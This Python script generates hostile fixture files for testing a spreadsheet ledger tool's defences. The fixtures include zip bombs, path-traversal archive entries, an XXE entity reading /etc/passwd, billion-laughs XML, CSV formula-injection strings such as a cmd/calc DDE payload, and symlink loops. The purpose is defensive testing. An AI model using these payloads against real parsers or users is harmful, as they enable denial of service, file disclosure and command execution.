#!/usr/bin/python3
"""make_hostile.py FOLDER writes hostile files and one good ledger into FOLDER.

They are made when the tests run: many are large once unpacked, have names that
no archive keeps, or are no files at all.  What must become of each stands in
tests/cli/test_hostile_batch.c.
"""

import os
import socket
import struct
import sys
import zlib

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "..", "book"))
sys.dont_write_bytecode = True
from make_books import (Entry, HEAD, MAIN, RELS, entries_of, parts, plain_sheet, rels, row,
                        sheet_xml, strings_xml, zip_bytes)

SHEET = "xl/worksheets/sheet1.xml"
HEADS = ("项目名称", "建设单位", "概算金额（万元）", "合同金额（万元）", "竣工验收日期", "验收备案日期")


class Packed(Entry):
    """An entry whose compressed bytes and figures are given."""

    def __init__(self, name, packed, crc, size):
        super().__init__(name, b"")
        self.packed, self.crc, self.size = packed, crc, size


def raw_deflate(data):
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    return packer.compress(data) + packer.flush()


def repeated(before, block, times, after):
    """Packs before + block * times + after in the time that one block takes."""
    packer = zlib.compressobj(6, zlib.DEFLATED, -15)
    head = packer.compress(before) + packer.flush(zlib.Z_FULL_FLUSH)
    body = packer.compress(block) + packer.flush(zlib.Z_FULL_FLUSH)
    tail = packer.compress(after) + packer.flush()
    crc = zlib.crc32(before)
    for _ in range(times):
        crc = zlib.crc32(block, crc)
    return head + body * times + tail, zlib.crc32(after, crc), len(before) + len(block) * times + len(after)


def text(address, value):
    value = value.replace("&", "&amp;").replace("<", "&lt;")
    return '<c r="%s" t="inlineStr"><is><t xml:space="preserve">%s</t></is></c>' % (address, value)


def ledger_rows(name="平台建设", unit="县教育局", amounts=("<v>300</v>", "<v>290</v>"), first=1):
    """A header and three projects."""
    rows = [row(first, *(text("%s%d" % (chr(65 + i), first), head) for i, head in enumerate(HEADS)))]
    for i in range(3):
        number = first + 1 + i
        rows.append(row(number, text("A%d" % number, name + "一二三"[i] * 2), text("B%d" % number, unit),
                        '<c r="C%d">%s</c>' % (number, amounts[0]),
                        '<c r="D%d">%s</c>' % (number, amounts[1]),
                        text("E%d" % number, "2024-08-0%d" % (i + 1)),
                        text("F%d" % number, "2024-12-30")))
    return "".join(rows)


def ledger(**options):
    return sheet_xml(ledger_rows(**options))


class Folder:
    def __init__(self, path):
        self.path = os.fsencode(path)

    def write(self, name, data):
        name = name if isinstance(name, bytes) else os.fsencode(name)
        path = os.path.join(self.path, name)
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "wb") as stream:
            stream.write(data if isinstance(data, bytes) else data.encode("utf-8"))

    def book(self, name, package, *more):
        self.write(name, zip_bytes(entries_of(package) + list(more)))

    def with_sheet(self, name, entry):
        """An ordinary package whose only sheet is ENTRY."""
        package = parts([ledger()])
        del package[SHEET]
        self.write(name, zip_bytes(entries_of(package) + [entry]))


# ---- archives ------------------------------------------------------------------

def archives(folder):
    bomb = repeated(b"<worksheet><sheetData><row>", b" " * (1 << 20), 1000, b"</row></sheetData></worksheet>")
    folder.with_sheet("炸弹.xlsx", Packed(SHEET, *bomb))
    folder.with_sheet("大小谎报少.xlsx", Packed(SHEET, bomb[0], bomb[1], 100))
    honest = ledger().encode()
    folder.with_sheet("大小谎报多.xlsx", Packed(SHEET, raw_deflate(honest), zlib.crc32(honest), 0xfffffff0))
    # A bomb within a bomb, in a part that is no part of the workbook.
    inner = zip_bytes([Packed("bomb", *bomb)])
    folder.book("套娃.xlsx", parts([ledger()]), Entry("xl/media/image1.zip", inner))
    folder.with_sheet("套娃作表.xlsx", Entry(SHEET, inner))
    overlapping(folder, honest)
    many = parts([ledger()])
    for i in range(20000):
        many["xl/media/%d.bin" % i] = ""
    folder.book("条目过多.xlsx", many)


def overlapping(folder, sheet):
    """Each entry claims the bytes of all that follow (a quine of sizes)."""
    package = parts([ledger()])
    del package[SHEET]
    kernel = Entry(SHEET, sheet)
    data = bytearray(zip_bytes(entries_of(package) + [kernel]))
    place = data.index(b"PK\1\2")
    while True:
        following = data.find(b"PK\1\2", place + 4)
        if following < 0:
            break
        size = struct.unpack_from("<I", data, place + 20)[0]
        struct.pack_into("<I", data, place + 20, size + 200)
        place = following
    folder.write("重叠.xlsx", bytes(data))


def traversal(folder):
    """Names that would leave the folder, were anything unpacked."""
    package = parts([ledger()])
    folder.book("部件越界.xlsx", package, Entry("../../../../../tmp/hecha-escaped.xml", "x"),
                Entry("/tmp/hecha-escaped.xml", "x"), Entry("C:\\hecha-escaped.xml", "x"))
    package = parts([ledger()])
    del package[SHEET]
    package["xl/_rels/workbook.xml.rels"] = rels(
        ("rId1", RELS + "/worksheet", "../../../../../../etc/passwd"))
    folder.book("关系越界.xlsx", package)
    package = parts([ledger()])
    package["xl/_rels/workbook.xml.rels"] = package["xl/_rels/workbook.xml.rels"].replace(
        'Target="worksheets/sheet1.xml"', 'Target="file:///etc/passwd" TargetMode="External"')
    folder.book("关系外部.xlsx", package)


# ---- XML -------------------------------------------------------------------------

def markup(folder):
    def sheet(name, data):
        folder.book(name, dict(parts([ledger()]), **{SHEET: data}))

    laughs = "".join('<!ENTITY l%d "%s">' % (i, "&l%d;" % (i - 1) * 10) for i in range(1, 10))
    sheet("十亿个笑.xlsx", ledger().replace("?>\n", '?>\n<!DOCTYPE w [<!ENTITY l0 "lol">%s]>' % laughs)
          .replace("平台建设", "&l9;"))
    sheet("外部实体.xlsx", ledger().replace(
        "?>\n", '?>\n<!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]>').replace("平台", "&x;"))
    sheet("深层.xlsx", sheet_xml("<a>" * 100000 + "</a>" * 100000))
    sheet("代理字符引用.xlsx", ledger(name="平台&#xD800;").replace("&amp;#", "&#"))
    sheet("控制字符引用.xlsx", ledger(name="平台&#1;").replace("&amp;#", "&#"))
    sheet("控制字符.xlsx", ledger(name="平台\x01"))
    sheet("半个代理.xlsx", ledger(name="平台_xD800_甲").encode())
    sheet("代理字节.xlsx", ledger(name="平台@").encode().replace(b"@", b"\xed\xa0\x80"))
    sheet("转义控制.xlsx", ledger(name="平台_x0001__x0007__x001F_"))
    sheet("谎报范围.xlsx", sheet_xml(ledger_rows() + '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>',
                                  before='<dimension ref="A1:XFD1048576"/>'))
    sheet("非数.xlsx", ledger(amounts=("<v>NaN</v>", "<v>Infinity</v>")))
    sheet("无穷.xlsx", ledger(amounts=("<v>1e999</v>", "<v>-1e999</v>")))
    sheet("巨数.xlsx", ledger(amounts=("<v>1e300</v>", "<v>9223372036854775807</v>")))
    sheet("长文本.xlsx", ledger(name="长" * 40000))
    merges(folder)
    many_sheets(folder)


def merges(folder):
    """Ten million merged ranges, of pieces that do not pack too well; around
    one cell, as marking a ledger would pack it all again."""
    block = "".join('<mergeCell ref="A%d:B%d"/>' % (n, n) for n in
                    ((i * 7919) % 1000003 + 1 for i in range(4000))).encode()
    head = plain_sheet().split("</worksheet>")[0].encode() + b"<mergeCells>"
    folder.with_sheet("千万合并.xlsx", Packed(SHEET, *repeated(head, block, 2500, b"</mergeCells></worksheet>")))


def many_sheets(folder):
    sheets = [ledger()] + [plain_sheet() for _ in range(3999)]
    names = ['name="表%d"' % i for i in range(4000)]
    folder.book("四千张表.xlsx", parts(sheets, attributes=names))
    folder.book("五千张表.xlsx", parts(sheets + sheets[1:1001],
                                     attributes=names + ['name="多%d"' % i for i in range(1000)]))


# ---- text that would like to be more ----------------------------------------------

def dangerous_text(folder):
    names = ('=HYPERLINK("http://x.invalid/?"&A1,"点")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd",
             "-2+3+cmd", "http://x.invalid/a", "file:///etc/passwd", "internal:表!A1", "\t=1+1",
             "<script>alert(1)</script>", "%s%n%n%d")
    lines = [",".join(HEADS)]
    for i, name in enumerate(names):
        quoted = '"%s"' % name.replace('"', '""')
        lines.append(",".join((quoted, quoted, "300", "3000", "2024-08-01", "2024-12-30")))
    folder.write("公式和链接.csv", "\n".join(lines) + "\n")
    cells = "".join(row(i + 2, text("A%d" % (i + 2), name), text("B%d" % (i + 2), name),
                        '<c r="C%d"><v>300</v></c>' % (i + 2), '<c r="D%d"><v>3000</v></c>' % (i + 2))
                    for i, name in enumerate(names))
    heads = row(1, *(text("%s1" % chr(65 + i), head) for i, head in enumerate(HEADS)))
    folder.book("公式和链接.xlsx", parts([sheet_xml(heads + cells)]))
    units = ("../../../../tmp/hecha-escaped", "..", ".", "/etc", "长" * 200, "a\\b", "CON", "甲\n乙", "局.", "")
    cells = "".join(row(i + 2, text("A%d" % (i + 2), "项目" + "甲乙丙丁戊己庚辛壬癸"[i]),
                        text("B%d" % (i + 2), unit), '<c r="C%d"><v>300</v></c>' % (i + 2),
                        '<c r="D%d"><v>3000</v></c>' % (i + 2), text("E%d" % (i + 2), "2024-08-01"),
                        text("F%d" % (i + 2), "2024-12-30")) for i, unit in enumerate(units))
    folder.book("单位越界.xlsx", parts([sheet_xml(heads + cells)]))


# ---- names and what is no file ------------------------------------------------------

def names(folder):
    csv = (",".join(HEADS) + "\n路灯改造,县城管局,300,3000,2024-08-01,2024-12-30\n").encode()
    folder.write(b"\xbd\xcc\xd3\xfd\xbe\xd6.csv", csv)           # 教育局, in GB18030
    folder.write(b"\xff\xfe\x80.csv", csv)
    folder.write("长" * 83 + ".csv", csv)                        # 253 bytes; .xlsx has one more
    folder.write("名" * 80 + ".xlsx", zip_bytes(entries_of(parts([ledger()]))))
    folder.write("尾" * 84 + ".et", csv)                         # 255 bytes, text under a workbook's name
    folder.write("表" * 83 + ".xls", csv)
    folder.write("\n换行\t.csv", csv)
    folder.write("=1+1.csv", csv)
    folder.write("-o.csv", csv)
    folder.write("..点.csv", csv)
    folder.write("a\\..\\b.csv", csv)
    folder.write("%s%n“引号”'\".csv", csv)
    folder.write("深/" * 60 + "底.csv", csv)


def no_files(folder):
    here = folder.path.decode()
    outside = here + ".外面"
    os.makedirs(outside, exist_ok=True)
    with open(outside + "/秘密.csv", "w") as stream:
        stream.write(",".join(HEADS) + "\n秘密项目,县公安局,300,3000,2024-08-01,2024-12-30\n")
    os.symlink(outside + "/秘密.csv", here + "/链出.csv")
    os.symlink(outside, here + "/链出夹")
    os.symlink(".", here + "/环")
    os.symlink("环甲.csv", here + "/环乙.csv")
    os.symlink("环乙.csv", here + "/环甲.csv")
    os.symlink("没有.csv", here + "/断链.csv")
    os.symlink("好台账.csv", here + "/内链.csv")
    os.mkfifo(here + "/管道.xlsx")
    os.chdir(here)      # the address of a socket is short
    with socket.socket(socket.AF_UNIX) as address:
        address.bind("s.xlsx")
    os.rename("s.xlsx", "套接字.xlsx")
    folder.write("零字节.xlsx", b"")
    folder.write("无权.csv", b"x")
    os.chmod(here + "/无权.csv", 0)


def main():
    folder = Folder(sys.argv[1])
    folder.write("好台账.csv", ",".join(HEADS) + "\n"
                 + "".join("好项目%s,县水务局,300,3000,2024-08-01,2024-12-30\n" % n for n in "甲乙丙"))
    for make in (archives, traversal, markup, dangerous_text, names, no_files):
        make(folder)


if __name__ == "__main__":
    main()
